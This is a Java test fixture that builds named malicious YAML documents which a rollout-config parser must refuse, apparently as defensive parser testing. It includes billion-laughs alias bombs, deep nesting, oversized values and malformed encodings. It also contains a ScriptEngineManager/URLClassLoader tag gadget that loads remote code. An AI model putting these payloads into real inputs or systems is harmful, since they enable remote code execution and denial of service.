package io.neuralhive.rollout.config.yaml;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;

/** Malicious documents, by name. All of them must be refused. */
final class HostileDocuments {

    private static final int NEARLY_MAX_LENGTH = SourceText.MAX_LENGTH - 100;

    private HostileDocuments() {}

    /** Writes a document to a file, so that it need not fit into memory. */
    interface Document {
        void writeTo(OutputStream out) throws IOException;
    }

    static Map<String, Document> all() {
        Map<String, Document> all = new LinkedHashMap<>();
        addAliases(all);
        addNesting(all);
        addSizes(all);
        addNames(all);
        addTags(all);
        addBytes(all);
        return all;
    }

    static Path write(Path directory, Document document) throws IOException {
        Path file = directory.resolve("config.yaml");
        try (OutputStream out = Files.newOutputStream(file)) {
            document.writeTo(out);
        }
        return file;
    }

    private static void addAliases(Map<String, Document> all) {
        all.put("a billion laughs", text(laughs("x0: &x0 ha\n")));
        all.put("a billion laughs in a section", text(laughs("x0: &x0 ha\n") + "ml: {canary: *x9}\n"));
        String wide = "w: &w [" + "a,".repeat(3_000) + "a]\n";
        all.put("one wide value repeated", text(wide + "v: [" + "*w,".repeat(3_000) + "*w]\n"));
        all.put("an alias inside its anchor", text("x: &x [*x]\n"));
        all.put("an alias for a key", text("x: &x ml\n*x : {}\n"));
        all.put("an alias that nothing has", text("ml: *nothing\n"));
        all.put("an alias from another document", text("a: &x 1\n---\nb: *x\n"));
        all.put("a long name of an anchor", text("a: &" + "x".repeat(NEARLY_MAX_LENGTH) + " [\n"));
        all.put("an alias for a setting", text("x: &x 5\nml: {canary: {duration_minutes: *x}}\n"));
        all.put("a merge key", text("x: &x {enabled: true}\nml: {canary: {<<: *x}}\n"));
        all.put("many anchors", text("ml: {canary: [" + "&a 1,".repeat(NEARLY_MAX_LENGTH / 6) + "]}\n"));
    }

    private static void addNesting(Map<String, Document> all) {
        all.put("a million lists in lists", text("[".repeat(1_000_000)));
        all.put("a million lists in block form", text("- ".repeat(1_000_000)));
        all.put("lists in lists", text("[".repeat(NEARLY_MAX_LENGTH)));
        all.put("lists in a setting", text("ml: {gradual_rollout: {stages: " + "[".repeat(NEARLY_MAX_LENGTH)));
        all.put("lists, each on its line", text("[\n".repeat(NEARLY_MAX_LENGTH / 2)));
        all.put("mappings in mappings", text("{a: ".repeat(NEARLY_MAX_LENGTH / 4)));
        all.put("lists in block form", text("- ".repeat(NEARLY_MAX_LENGTH / 2)));
        all.put("keys that are keys", text("? ".repeat(NEARLY_MAX_LENGTH / 2)));
        StringBuilder stairs = new StringBuilder("a:\n");
        for (int depth = 1; depth < 700; depth++) {
            stairs.append(" ".repeat(depth)).append("a:\n");
        }
        all.put("mappings in block form", text(stairs.toString()));
    }

    private static void addSizes(Map<String, Document> all) {
        all.put("a scalar of 50 MB", out -> {
            out.write("ml: \"".getBytes(UTF_8));
            byte[] chunk = "x".repeat(1 << 16).getBytes(UTF_8);
            for (int i = 0; i < 763; i++) {
                out.write(chunk);
            }
        });
        String setting = "ml: {canary: {duration_minutes: ";
        all.put("a long text", text(setting + "\"" + "x".repeat(NEARLY_MAX_LENGTH) + "\"}}"));
        all.put("a long text of escapes", text(setting + "\"" + "\\n".repeat(NEARLY_MAX_LENGTH / 2) + "\"}}"));
        all.put("a long number", text(setting + "9".repeat(NEARLY_MAX_LENGTH) + "}}"));
        all.put("a number with a long exponent", text(setting + "1e999999999}}"));
        all.put("a number with an exponent beyond all bounds", text(setting + "1e2147483648}}"));
        all.put("many such numbers", text("ml: {gradual_rollout: {stages: [" + "1e2147483648,".repeat(900) + "]}}"));
        all.put("a long octal number", text("a: !!int 0o" + "7".repeat(NEARLY_MAX_LENGTH) + "\nml: 1"));
        all.put("a long number of base 16", text("a: !!int 0x" + "f".repeat(NEARLY_MAX_LENGTH) + "\nml: 1"));
        all.put("a long block", text("ml:\n  canary: |\n" + "    x\n".repeat(NEARLY_MAX_LENGTH / 6)));
        all.put(
                "a long list",
                text("ml: {gradual_rollout: {stages: [" + "0.5,".repeat(NEARLY_MAX_LENGTH / 4 - 10) + "]}}"));
        all.put("a long key", text("x".repeat(NEARLY_MAX_LENGTH) + ": 1"));
        all.put("an open quote", text("'" + "x ".repeat(NEARLY_MAX_LENGTH / 2)));
        all.put("many documents", text("---\n".repeat(NEARLY_MAX_LENGTH / 4)));
        all.put("many documents of ours", text("--- {ml: }\n".repeat(NEARLY_MAX_LENGTH / 11)));
        all.put("an open brace", text("{a: " + "b ".repeat(NEARLY_MAX_LENGTH / 2)));
        all.put("a long comment behind an anchor", text("ml: &a" + " #\n".repeat(NEARLY_MAX_LENGTH / 3) + " 1"));
        all.put("many anchors, each before a comment", text("a: [" + "&a #\n".repeat(NEARLY_MAX_LENGTH / 5) + "1"));
        all.put("many directives", text("%TAG !a! b\n".repeat(NEARLY_MAX_LENGTH / 11) + "--- 1\n"));
    }

    private static void addNames(Map<String, Document> all) {
        all.put("one section again and again", text("ml:\n" + "  canary:\n".repeat(20_000)));
        all.put("one setting again and again", text("ml:\n  canary:\n" + "    enabled: true\n".repeat(12_000)));
        all.put("the root again and again", text("ml: {}\n".repeat(30_000)));
        StringBuilder unknown = new StringBuilder("ml:\n  canary:\n");
        StringBuilder slips = new StringBuilder("ml:\n");
        for (int i = 10_000; i < 19_000; i++) {
            unknown.append("    ").append(i).append(": 1\n");
            slips.append("  base").append(i).append(": 1\n");
        }
        all.put("many unknown settings", text(unknown.toString()));
        all.put("many names not quite ours", text(slips + "  canray: 1\n"));
    }

    private static void addTags(Map<String, Document> all) {
        String engine =
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]";
        all.put("a tag that names a class", text("ml: " + engine + "\n"));
        all.put("a tag that names a class, elsewhere", text("others: " + engine + "\nml: {}\n"));
        all.put("a tag of one's own", text("ml: !policy {canary: {enabled: true}}\n"));
        all.put("a tag of YAML", text("ml: {canary: {duration_minutes: !!int 5}}\n"));
        all.put("a tag that doesn't fit", text("a: !!binary \"@\"\nml: 1\n"));
        all.put("a long tag", text("ml: !" + "x".repeat(NEARLY_MAX_LENGTH) + " 1\n"));
        all.put("a tag without a handle", text("ml: !x!y 1\n"));
    }

    private static void addBytes(Map<String, Document> all) {
        byte[] junk = new byte[NEARLY_MAX_LENGTH];
        new Random(42).nextBytes(junk);
        all.put("random bytes", out -> out.write(junk));
        all.put("nothing but zeros", out -> out.write(new byte[NEARLY_MAX_LENGTH]));
        all.put("Latin-1", out -> out.write("x: caf\u00e9\n".getBytes(ISO_8859_1)));
        all.put("an overlong form", out -> out.write(new byte[] {'x', (byte) 0xC0, (byte) 0x80}));
        all.put("half a character", out -> out.write(new byte[] {'x', (byte) 0xE2, (byte) 0x82}));
        all.put("UTF-16", out -> out.write("ml: {}\n".getBytes(UTF_16)));
        all.put("a byte order mark", text("\uFEFFml: {}\n"));
        all.put("NUL in a setting", text("ml: {canary: {enabled: tr\0ue}}\n"));
        all.put("an escaped NUL in a setting", text("ml: {canary: {enabled: \"tr\\0ue\"}}\n"));
        all.put(
                "half a surrogate pair, encoded",
                out -> out.write(new byte[] {'x', (byte) 0xED, (byte) 0xA0, (byte) 0x80}));
        all.put("half a surrogate pair, escaped", text("ml: \"\\ud800\"\n"));
        all.put("no character, escaped", text("ml: \"\\UFFFFFFFF\"\n"));
        all.put("an unfinished escape", text("ml: \"\\U"));
        all.put("UTF-16 without a mark", out -> out.write("ml: {}\n".getBytes(UTF_16LE)));
        all.put("tabs", text("ml:\n\tcanary:\n\t\tenabled: true\n"));
        all.put("a tab behind a colon", text("ml: {canary: \t{enabled: \tmaybe}}\n"));
        all.put("an unfinished mapping", text("ml: {canary: {enabled: true"));
        all.put("an unfinished block", text("ml: |9"));
        all.put("an unfinished tag", text("ml: !<"));
        all.put("an unfinished directive", text("%TAG"));
        all.put("a terminal escape", text("x: \u001B[2J\n"));
    }

    private static String laughs(String first) {
        StringBuilder text = new StringBuilder(first);
        for (int i = 1; i < 10; i++) {
            String before = "*x" + (i - 1);
            text.append("x" + i + ": &x" + i + " [" + (before + ", ").repeat(9) + before + "]\n");
        }
        return text.toString();
    }

    private static Document text(String text) {
        return out -> out.write(text.getBytes(UTF_8));
    }
}
